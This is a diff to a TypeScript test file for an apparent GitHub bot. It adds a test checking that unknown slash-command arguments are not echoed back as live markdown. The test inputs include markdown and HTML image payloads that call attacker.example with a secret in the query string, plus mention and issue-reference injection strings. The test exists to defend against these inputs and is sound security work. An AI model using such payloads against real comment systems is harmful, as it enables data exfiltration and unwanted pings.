@@ -2,6 +2,7 @@ import nock from 'nock';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { appHarness, NPM_REGISTRY, OSV } from '../../helpers/app-harness.ts';
 import { databaseEngines } from '../../helpers/backend-matrix.ts';
+import { findLiveMarkdown } from '../../helpers/live-markdown.ts';
 import type { TestDatabase } from '../../helpers/test-database.ts';
 import { issueCommentPayload, webhookExample } from '../../helpers/webhook-examples.ts';
 
@@ -54,6 +55,22 @@ describe('aos app commands through probot.receive, GitHub mocked with nock', () 
     await harness.receive('issue_comment', comment('/aos frobnicate', 'bob'));
     expect(bodies[0]).toContain('/aos plan');
     expect(bodies[1]).toContain('Unknown command `frobnicate`');
+  });
+
+  it('does not echo a hostile unknown subcommand back live', async () => {
+    const bodies: string[] = [];
+    nock(API)
+      .post(`${REPO}/issues/1/comments`, (body: { body: string }) => (bodies.push(body.body), true))
+      .times(4)
+      .reply(201, { id: 9005 });
+    for (const word of ['@octo/everyone', '![x](https://attacker.example/?d=SECRET)', '<img/src=https://attacker.example/?d=1>', 'x`@alice`Fixes#2']) {
+      await harness.receive('issue_comment', comment(`/aos ${word}`, 'bob'));
+    }
+    expect(bodies).toHaveLength(4);
+    for (const body of bodies) {
+      expect(body).toContain('Unknown command');
+      expect(findLiveMarkdown(body)).toEqual([]);
+    }
   });
 
   it('does nothing twice for a redelivered webhook', async () => {
